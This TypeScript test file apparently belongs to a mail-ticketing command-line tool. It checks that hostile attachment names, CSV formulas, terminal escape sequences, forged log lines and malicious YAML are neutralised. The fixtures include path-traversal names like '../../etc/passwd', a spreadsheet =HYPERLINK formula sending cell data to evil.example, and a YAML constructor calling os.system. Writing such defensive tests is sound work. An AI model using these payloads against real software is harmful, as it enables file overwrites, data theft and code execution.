// What strangers put into names, subjects and bodies, met where it would do harm: in the names of files (H58), in tables for
// spreadsheets (H60), on a terminal and in the log (H61); and what a configuration may be (H62). The program as its commands.
import { execFileSync } from 'node:child_process';
import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it, test } from 'vitest';
import { openOutput } from '../../src/cli/output.ts';
import { loadConfig } from '../../src/config/load.ts';
import { openLog } from '../../src/lib/log.ts';
import { sha256Hex } from '../../src/model/identity.ts';
import { type Ran, run } from '../cli/run.ts';

let dir = '';
const clerk = (...line: readonly string[]): Promise<Ran> =>
  run(['-c', join(dir, 'config/mailclerk.yaml'), ...line], { cwd: dir });

/** Escape sequences, C1 controls, directions, NUL: everything a terminal would obey. */
const EVIL = 'a\u001b]0;owned\u0007\u001b[2J\u009b31mb\u202Egpj.exe\u2066c\u0000\u0008\u007f\u2028d';
const OBEYED = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069\ufeff]/;
const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")';

const NAMES = [
  '../../etc/passwd',
  '..\\..\\windows\\system32\\x.dll',
  '/etc/cron.d/x',
  'CON',
  'nul.txt',
  'LPT1',
  `${'x'.repeat(5_000)}.pdf`,
  'bill\u202Efdp.exe',
  'a\u0000b.txt',
  '.bashrc',
  '...',
  '-rf',
  'a\nb\r.txt',
  '~',
  'C:evil.exe',
  'a:stream.txt',
  ' ',
  '',
];

function encoded(text: string): string {
  return `=?utf-8?B?${Buffer.from(text).toString('base64')}?=`;
}

function mailWith(names: readonly string[]): string {
  const parts = names.flatMap((name, n) => [
    '--b',
    'Content-Type: application/octet-stream',
    `Content-Disposition: attachment; filename*=utf-8''${encodeURIComponent(name)}`,
    '',
    `content ${n}`,
  ]);
  return [
    'From: Eve <eve@evil.example>',
    'To: support@example.com',
    'Subject: files',
    'Message-ID: <files@evil.example>',
    'Content-Type: multipart/mixed; boundary=b',
    '',
    '--b',
    '',
    'See the files.',
    ...parts,
    '--b--',
    '',
  ].join('\r\n');
}

const hostile = [
  `From: ${encoded(EVIL)} <eve@evil.example>`,
  'To: support@example.com',
  `Subject: ${encoded(`${EVIL} printer`)}`,
  'Message-ID: <evil@evil.example>',
  'Content-Type: multipart/mixed; boundary=b',
  '',
  '--b',
  'Content-Type: text/plain; charset=utf-8',
  'Content-Transfer-Encoding: base64',
  '',
  Buffer.from(`words ${EVIL} words\nprinter`).toString('base64'),
  '--b',
  'Content-Type: text/plain; charset=utf-8',
  `Content-Disposition: attachment; filename*=utf-8''${encodeURIComponent(EVIL)}`,
  '',
  'x',
  '--b--',
  '',
].join('\r\n');

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'mc-names-'));
  mkdirSync(join(dir, 'config'));
  mkdirSync(join(dir, 'rules'));
  const config = {
    instance: { timezone: 'UTC' },
    data: { dir: join(dir, 'data'), min_free: '1MB' },
    rules: { dir: join(dir, 'rules') },
    mailboxes: { support: { address: 'support@example.com', host: '127.0.0.1:9', tls: 'none', password: 'secret' } },
    smtp: { host: '127.0.0.1:9', tls: 'none' },
  };
  writeFileSync(join(dir, 'config/mailclerk.yaml'), JSON.stringify(config));
  writeFileSync(
    join(dir, 'rules/10-q.yaml'),
    'version: 1\nrules:\n  - id: hold\n    when: { subject: quarantine }\n    then: quarantine\n',
  );
  writeFileSync(join(dir, 'files.eml'), mailWith(NAMES));
  writeFileSync(join(dir, 'evil.eml'), hostile);
  writeFileSync(
    join(dir, 'held.eml'),
    hostile.replace('evil@evil', 'held@evil').replace(/Subject: .*/, `Subject: ${encoded(`quarantine ${EVIL}`)}`),
  );
  writeFileSync(
    join(dir, 'formula.eml'),
    `From: "${FORMULA.replaceAll('"', '\\"')}" <sum@evil.example>\r\nTo: support@example.com\r\nSubject: ${FORMULA}\r\nMessage-ID: <formula@evil.example>\r\n\r\n${FORMULA}\r\n`,
  );
  const injected = await clerk('mail', 'inject', 'files.eml', 'evil.eml', 'held.eml', 'formula.eml');
  expect(injected.code, injected.err).toBe(0);
});
afterAll(() => rmSync(dir, { recursive: true, force: true }));

/** Everything below a folder, and beside it. */
function everything(folder: string): readonly string[] {
  return readdirSync(folder, { recursive: true, encoding: 'utf8' }).toSorted();
}

describe('H58: names of files from strangers', () => {
  it('are kept as harmless words, the bytes by their hash', async () => {
    const files = JSON.parse((await clerk('ticket', 'files', '1', '--json')).out) as readonly {
      id: string;
      filename: string;
      sha256: string;
    }[];
    expect(files).toHaveLength(NAMES.length);
    for (const { filename } of files) {
      expect(filename).not.toMatch(/[\\/:\x00-\x1f\u202a-\u202e]|^\.|^\s*$/);
      expect(filename).not.toMatch(/^(?:con|prn|aux|nul|com\d|lpt\d)(?:\.|$)/i);
      expect(Buffer.byteLength(filename)).toBeLessThanOrEqual(255);
    }
    expect(files.map(({ sha256 }) => sha256)).toEqual(NAMES.map((_, n) => sha256Hex(Buffer.from(`content ${n}`))));
  });

  it('never lead a written file out of the folder it is told, nor over another or through a link', async () => {
    const out = join(dir, 'deep/down/out');
    mkdirSync(out, { recursive: true });
    const before = everything(dir).filter((name) => !name.startsWith('deep') && !name.startsWith('data'));
    const files = JSON.parse((await clerk('ticket', 'files', '1', '--json')).out) as readonly { id: string }[];
    for (const [n, { id }] of files.entries()) {
      const into = join(out, String(n));
      mkdirSync(into);
      const ran = await clerk('ticket', 'file', '1', id, '-o', into);
      expect(ran.code, ran.err).toBe(0);
      const [name = '', ...more] = readdirSync(into);
      expect(more).toEqual([]);
      expect(readFileSync(join(into, name), 'utf8')).toBe(`content ${n}`);
      expect(statSync(join(into, name)).mode & 0o077).toBe(0);
      // Again: it is there, and stays.
      expect((await clerk('ticket', 'file', '1', id, '-o', into)).code).toBe(7);
      // A link of that name is a file that is there, wherever it leads.
      rmSync(join(into, name));
      symlinkSync(join(dir, 'target'), join(into, name));
      expect((await clerk('ticket', 'file', '1', id, '-o', into)).code).toBe(7);
    }
    expect(existsSync(join(dir, 'target'))).toBe(false);
    expect(everything(dir).filter((name) => !name.startsWith('deep') && !name.startsWith('data'))).toEqual(before);
  });

  it('are no paths in an mbox, a table or a printed ticket either, and attaching takes the last part alone', async () => {
    mkdirSync(join(dir, 'mine'), { recursive: true });
    writeFileSync(join(dir, 'mine/-rf'), 'mine');
    expect((await clerk('ticket', 'attach', '1', './mine/-rf')).code).toBe(0);
    for (const format of ['csv', 'json', 'mbox'])
      expect((await clerk('export', '--format', format, '-o', `all.${format}`)).code).toBe(0);
    expect((await clerk('ticket', 'print', '1', '-o', 'printed')).code).toBe(0);
    expect(existsSync('/tmp/passwd')).toBe(false);
    const again = await clerk('export', '--format', 'csv', '-o', 'all.csv');
    expect([again.code, existsSync(join(dir, 'all.csv'))]).toEqual([7, true]);
  });
});

test('H60: a table for a spreadsheet holds no formula, whoever wrote the subject and the name', async () => {
  const { out, code } = await clerk('export', '--format', 'csv', '--all');
  expect(code).toBe(0);
  expect(out).toContain('HYPERLINK');
  const cells = out.split('\r\n').flatMap((line) => line.match(/"(?:[^"]|"")*"|[^,]+/g) ?? []);
  for (const cell of cells) {
    const value = cell.startsWith('"') ? cell.slice(1, -1) : cell;
    expect(value).not.toMatch(/^[\s]*[=+@|%\uff1d]/);
    if (/^-/.test(value)) expect(value).toMatch(/^-\d/);
  }
});

/** Every command that prints words of mails. */
const printing = [
  'ticket list --all',
  'ticket show 2',
  'ticket files 2',
  'search printer',
  'mail show 2',
  'mail why 2',
  'mail read evil.eml',
  'mail inject --dry-run evil.eml',
  'rules explain evil.eml',
  'quarantine list',
  'quarantine show 3',
  'outbox list --all',
  'outbox list --suppressed',
  'contact list',
  'contact show eve@evil.example',
  'ticket print 2',
  'export --format csv --all',
  'export --format json --all',
  'status',
  'db check',
  'stats',
];

describe('H61: what a terminal would obey', () => {
  it.each(printing)('never comes out of %s, as text or as JSON', async (line) => {
    for (const more of [[], ['--json']]) {
      const { out, err, code } = await clerk(...line.split(' '), ...more);
      if (more.length > 0 && code === 2) continue;
      expect([line, code], err).toEqual([line, 0]);
      const text = line.includes('csv') ? (out + err).replaceAll('\r\n', '\n') : out + err;
      expect(OBEYED.exec(text)).toBeNull();
    }
  });

  it('is still there for a program: JSON gives every character back', async () => {
    const { out } = await clerk('mail', 'read', 'evil.eml', '--json');
    expect(JSON.stringify(JSON.parse(out))).toMatch(/words/);
    expect(out).not.toMatch(OBEYED);
  });

  it('nor out of raw bytes when a terminal is there; a pipe gets every byte', () => {
    const written: string[] = [];
    const stream = (isTTY: boolean) => ({
      isTTY,
      write: (part: string | Uint8Array) => void written.push(Buffer.from(part as Uint8Array).toString('latin1')),
    });
    const output = (isTTY: boolean) =>
      openOutput({
        stdout: stream(isTTY) as never,
        stderr: stream(isTTY) as never,
        json: false,
        quiet: false,
        colour: false,
      });
    output(true).bytes(Buffer.from(EVIL));
    expect(written.join('')).not.toMatch(/[\x00-\x08\x0b-\x1f\x7f]|\xc2[\x80-\x9f]/);
    written.length = 0;
    output(false).bytes(Buffer.from(EVIL));
    expect(written.join('')).toBe(Buffer.from(EVIL).toString('latin1'));
  });

  it('is one line of the log, escaped, with secrets by their names left out', () => {
    const lines: string[] = [];
    const log = openLog('debug', () => 0, { write: (line: string) => void lines.push(line) });
    log.warn('mail.failed', {
      reason: `${EVIL}\n{"level":"error","event":"forged"}\r\n`,
      password: 'hunter2',
      inner: { token: 'hunter2' },
    });
    expect(lines).toHaveLength(1);
    expect(lines[0]?.trimEnd()).not.toMatch(OBEYED);
    expect(lines[0]).not.toContain('hunter2');
    expect(JSON.parse(lines[0] ?? '')).toMatchObject({
      event: 'mail.failed',
      reason: expect.stringContaining('forged'),
    });
  });
});

describe('H62: a configuration', () => {
  const load = (text: string) => {
    const path = join(dir, 'config/tried.yaml');
    writeFileSync(path, text);
    return loadConfig(path, { env: {}, needSecrets: false });
  };
  const bomb = Array.from(
    { length: 9 },
    (_, n) => `k${n}: &k${n} [${Array.from({ length: 10 }, () => (n === 0 ? 'x' : `*k${n - 1}`)).join(',')}]`,
  ).join('\n');

  it.each([
    ['a bomb of aliases', bomb, /too many or too deeply/],
    ['an alias of itself', 'a: &a [*a]', /too many or too deeply|alias/],
    ['a function', 'smtp: !!js/function "function () { return process }"', /not valid YAML/],
    ['a constructor', 'smtp: !!python/object/apply:os.system ["id"]', /not valid YAML/],
    ['a prototype', '__proto__: { polluted: true }', /plain name/],
    ['depth without end', `a: ${'['.repeat(5_000)}${']'.repeat(5_000)}`, /./],
    ['two megabytes', `# ${'x'.repeat(2 * 1024 * 1024)}\n`, /larger than 1MB/],
  ])('that holds %s is refused at once, with its place', (_, text, words) => {
    const before = performance.now();
    const { config, problems } = load(text);
    expect(config).toBeNull();
    expect(problems.map(({ message }) => message).join('\n')).toMatch(words);
    expect(problems.length).toBeLessThan(20);
    expect(({} as { polluted?: boolean }).polluted).toBeUndefined();
    // Generous for a busy machine: a bomb that goes off takes minutes.
    expect(performance.now() - before).toBeLessThan(20_000);
  });

  it('may be a link to a file, and never a device or a pipe, which have no end', () => {
    const link = join(dir, 'config/link.yaml');
    symlinkSync(join(dir, 'config/mailclerk.yaml'), link);
    expect(loadConfig(link, { env: {}, needSecrets: false }).config).not.toBeNull();
    symlinkSync('/dev/zero', join(dir, 'config/zero.yaml'));
    execFileSync('mkfifo', [join(dir, 'config/pipe.yaml')]);
    symlinkSync('circle.yaml', join(dir, 'config/circle.yaml'));
    for (const name of ['zero', 'pipe', 'circle']) {
      const { config, problems } = loadConfig(join(dir, `config/${name}.yaml`), { env: {}, needSecrets: false });
      expect([name, config]).toEqual([name, null]);
      expect(problems[0]?.message).toMatch(/cannot be read/);
    }
  });

  it('that is such a file itself keeps no command waiting', async () => {
    for (const name of ['zero', 'pipe', 'circle']) {
      const { code, err } = await run(['-c', join(dir, `config/${name}.yaml`), 'status'], { cwd: dir });
      expect([name, code, err]).toEqual([name, 3, expect.stringContaining('cannot be read')]);
    }
  });

  it('that includes such a file is refused by check, and nothing hangs', async () => {
    const main = JSON.parse(readFileSync(join(dir, 'config/mailclerk.yaml'), 'utf8')) as object;
    writeFileSync(join(dir, 'config/more.yaml'), JSON.stringify({ ...main, include: ['zero.yaml', 'pipe.yaml'] }));
    const { code, out } = await run(['-c', join(dir, 'config/more.yaml'), 'check'], { cwd: dir });
    expect([code, out]).toEqual([3, expect.stringContaining('zero.yaml cannot be read (no regular file)')]);
    expect(out).toContain('pipe.yaml cannot be read');
    expect((await clerk('check')).code).toBe(0);
  });
});
